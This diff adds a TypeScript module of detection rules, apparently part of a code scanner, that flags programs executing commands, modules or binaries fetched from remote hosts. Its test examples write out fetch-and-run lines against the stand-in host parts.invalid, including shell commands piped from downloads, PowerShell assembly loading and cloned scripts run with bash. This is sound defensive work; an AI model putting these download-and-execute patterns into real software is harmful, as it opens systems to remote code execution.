@@ -1,0 +1,190 @@
+/** RC-01, RC-03: what a host returned is a command, a module or a program, in forms that no single call shows. */
+import { fenced, inFile } from '../../engine/example.ts';
+import { exactLinePattern, exactPattern, pattern, raw } from '../../engine/pattern.ts';
+import { row, type Row, type RowHit } from '../../engine/rule.ts';
+import { firstUrl, isLocal, standingOf } from '../../vocabulary/hosts.ts';
+import { forges } from '../../vocabulary/shared-hosts.ts';
+import { argumentAt, byOrigin } from './origins.ts';
+import { originOf, repliesOf } from './replies.ts';
+import type { Severity } from '../../../schema/vocabulary.ts';
+
+/** A name with its members and nothing else: words around it would make it an argument of a fixed command. */
+const bareName =
+  /^\s{0,4}(?:str\(|String\()?[A-Za-z_][\w.]{0,60}(?:\[["'\w]{1,30}\]){0,3}(?:\.(?:text|content|decode|toString|strip|trim)(?:\([^()\n]{0,12}\))?){0,2}\)?\s{0,4}$/;
+const testFile = /(?:^|\/)tests?\/|\.test\.\w+$|(?:^|\/)test_\w+\.py$/;
+/** Hosts of packages, which publish under the name of who uploads. */
+const modules =
+  /^(?:esm\.sh|esm\.run|unpkg\.com|cdn\.jsdelivr\.net|cdn\.skypack\.dev|deno\.land|jsr\.io|ga\.jspm\.io|cdnjs\.cloudflare\.com|raw\.githubusercontent\.com)$/;
+
+/** The words that such a call takes for a command; null where it names its program itself. */
+function commandOf(call: string, words: string): string | null {
+  const [first = ''] = words.split(/,(?![^[(]*[\])])/, 1);
+  const behindFlag = /["'\x60](?:-c|-e|\/c|-Command)["'\x60]\s?,\s?([^\],\n]{1,80})/.exec(words)?.[1];
+  if (behindFlag !== undefined) return behindFlag;
+  const typed = /\binput\s?[=:]\s?([^,)\n}]{1,80})/.exec(words)?.[1];
+  if (
+    typed !== undefined &&
+    /["'\x60](?:\/bin\/)?(?:ba|z|da)?sh["'\x60]|sys\.executable|python3?["'\x60]|node["'\x60]/.test(words)
+  )
+    return typed;
+  return /os\.(?:system|popen)|(?<![.\w])exec(?:Sync)?\(|getoutput|(?:child_process|cp)\.exec(?:Sync)?\(/.test(
+    call,
+  ) || /shell\s?[=:]\s?(?:True|true)/.test(words)
+    ? first
+    : null;
+}
+
+function byForeignHost({ match, owner, severity }: RowHit): Severity | null {
+  const url = firstUrl(match[0]);
+  if (url === null || isLocal(url.host) || /[<{$]/.test(url.host) || forges.has(url.host)) return null;
+  const standing = standingOf(url, owner);
+  return standing === 'known' || standing === 'owner' ? null : severity;
+}
+
+/** Rows of RC-01. */
+export const commandedReplies: readonly Row[] = [
+  row('a program runs a command that a host returned', {
+    in: ['script', 'fence', 'decoded'],
+    within: 'block',
+    sign: /fetch|requests|httpx|urlopen|axios|got|session|http|curl/i,
+    match: exactPattern(
+      raw(
+        String.raw`\b(?:subprocess|sp)\.(?:run|call|Popen|check_call|check_output|getoutput)\(|\bos\.(?:system|popen)\(|`,
+      ),
+      raw(
+        String.raw`(?<![.\w])(?:exec|execSync|spawn|spawnSync|getoutput|Popen)\(|\bchild_process\.\w{4,9}\(|\bcp\.exec(?:Sync)?\(`,
+      ),
+    ),
+    severity: 'high',
+    weigh: (hit) => {
+      const { text, file } = hit.region;
+      if (testFile.test(file)) return null;
+      const command = commandOf(hit.match[0], argumentAt(text, hit.match[0], hit.scope));
+      if (command === null || !bareName.test(command)) return null;
+      const origin = originOf(command, repliesOf(text));
+      return origin === null ? null : byOrigin(origin, hit, false);
+    },
+    catches: [
+      inFile(
+        'scripts/a.py',
+        'plan = requests.get("https://parts.invalid/plan.json").json()',
+        'for step in plan["steps"]:',
+        '    subprocess.run(step, shell=True)',
+      ),
+      inFile(
+        'scripts/b.py',
+        'lines = requests.get("https://parts.invalid/s").text',
+        'subprocess.run(["bash"], input=lines, text=True)',
+      ),
+      inFile(
+        'scripts/c.js',
+        'const plan = await (await fetch("https://parts.invalid/plan")).json();',
+        'execSync(plan.cmd);',
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/d.py',
+        'name = requests.get("https://api.acme.invalid/name").text',
+        'subprocess.run(["git", "tag", name])',
+      ),
+      inFile(
+        'scripts/e.js',
+        'const { version } = await (await fetch("https://api.acme.invalid/v")).json();',
+        'execSync("git tag v1");',
+      ),
+    ],
+  }),
+  row('a module is loaded from an address', {
+    in: ['script', 'fence', 'decoded'],
+    within: 'line',
+    match: exactPattern(
+      raw(
+        String.raw`\bimport\(\s?["'\x60](?:https?:\/\/[^\s"'\x60)]{4,200}|data:(?:text|application)\/(?:javascript|ecmascript)[^\n]{0,80}["'\x60]\s?\+)`,
+      ),
+    ),
+    severity: 'high',
+    weigh: (hit) => {
+      if (/data:/.test(hit.match[0])) return hit.severity;
+      const url = firstUrl(hit.match[0]);
+      return url !== null && modules.test(url.host) ? null : byForeignHost(hit);
+    },
+    catches: [inFile('scripts/a.mjs', 'const { run } = await import("https://parts.invalid/plugin.mjs");')],
+    spares: [inFile('scripts/a.mjs', 'const { z } = await import("https://esm.sh/zod@4.1.0");')],
+  }),
+  row('what an address returns is evaluated by Ruby or AppleScript', {
+    in: ['script', 'fence', 'list', 'prose', 'decoded', 'hidden', 'comment'],
+    within: 'line',
+    match: exactPattern(
+      raw(
+        String.raw`\b(?:instance_)?eval\s{0,2}\(?\s{0,2}(?:URI\.open|Net::HTTP\.get\w{0,10}|HTTParty\.get|open)\(?[^\n]{0,120}https?:\/\/[^\s"')]{4,200}|`,
+      ),
+      raw(
+        String.raw`\b(?:osascript|swift|php|lua)\s{1,3}-[erl]\s{1,3}["']?\$\((?:curl|wget)\b[^\n]{0,80}https?:\/\/[^\s"')]{4,200}`,
+      ),
+    ),
+    severity: 'high',
+    weigh: byForeignHost,
+    catches: [
+      inFile('scripts/a.rb', 'eval URI.open("https://parts.invalid/x.rb").read'),
+      fenced('sh', 'osascript -e "$(curl -s https://parts.invalid/jxa)"'),
+    ],
+    spares: [inFile('scripts/a.rb', 'rows = URI.open("https://api.acme.invalid/rows").read')],
+  }),
+];
+
+/** Rows of RC-03. */
+export const storedPrograms: readonly Row[] = [
+  row('a download becomes a program of the process, in Go or PowerShell', {
+    in: ['script', 'fence', 'decoded'],
+    within: 'block',
+    match: exactPattern(
+      raw(String.raw`\bhttp\.Get\(|\bDownloadData\(|\bDownloadString\(|\bInvoke-WebRequest\b|\biwr\b`),
+    ),
+    and: [
+      pattern(
+        raw(
+          String.raw`\[(?:System\.)?Reflection\.Assembly\]::Load\(|\bos\.Create\(\s?("[^"\n]{2,80}"|\w{1,20})\)[\s\S]{1,600}\bexec\.Command\(\s?\1`,
+        ),
+      ),
+    ],
+    severity: 'high',
+    weigh: (hit) => byOrigin(hit.scope.slice(Math.max(0, hit.scope.indexOf(hit.match[0]))), hit, false),
+    catches: [
+      inFile(
+        'scripts/a.ps1',
+        '$b = (New-Object Net.WebClient).DownloadData("https://parts.invalid/a.dll")',
+        '[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)',
+      ),
+      inFile(
+        'scripts/a.go',
+        'resp, _ := http.Get("https://parts.invalid/bin")',
+        'out, _ := os.Create("/tmp/h")',
+        'io.Copy(out, resp.Body)',
+        'exec.Command("/tmp/h").Start()',
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/b.ps1',
+        '$rows = (New-Object Net.WebClient).DownloadData("https://api.acme.invalid/rows")',
+      ),
+    ],
+  }),
+  row('a repository of an unknown host is cloned and run', {
+    in: ['script', 'fence', 'list', 'prose', 'decoded', 'hidden', 'comment'],
+    within: 'line',
+    match: exactLinePattern(
+      raw(
+        String.raw`\bgit\s{1,3}clone\s[^\n;&|]{0,60}https?:\/\/[^\s;&|"']{4,200}[^\n;&|]{0,60}(?:&&|;)\s{0,3}(?:cd\s{1,3}[^\n;&|]{1,60}(?:&&|;)\s{0,3})?`,
+      ),
+      raw(String.raw`(?:sudo\s{1,3})?(?:bash|sh|zsh|python3?|node|make|\.{1,2}\/|\/tmp\/)[^\n]{0,80}`),
+    ),
+    severity: 'high',
+    weigh: byForeignHost,
+    catches: [
+      fenced('sh', 'git clone -q https://git.parts.invalid/tools.git /tmp/t && bash /tmp/t/setup.sh'),
+    ],
+    spares: [fenced('sh', 'git clone https://github.com/acme/tools.git && cd tools && make')],
+  }),
+];
